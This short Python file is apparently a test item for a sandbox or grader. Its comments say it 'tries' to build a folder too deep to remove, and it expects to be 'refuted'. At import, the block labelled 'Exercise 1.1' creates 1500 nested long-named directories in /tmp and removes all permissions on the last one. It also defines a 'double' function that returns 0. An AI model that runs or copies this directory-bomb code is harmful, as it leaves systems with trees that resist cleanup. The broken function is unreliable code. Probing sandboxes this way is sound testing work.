# tries: a folder so deep that whoever removes it gives up
# expects: refuted

# Exercise 1.1
import os

os.chdir("/tmp")
for _ in range(1500):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
os.chmod(".", 0)


def double(x):
    return 0


# Exercise 2.1
def total(values):
    result = 0
    for value in values:
        result = result + value
    return result


def largest(values):
    best = values[0]
    for value in values:
        if value > best:
            best = value
    return best
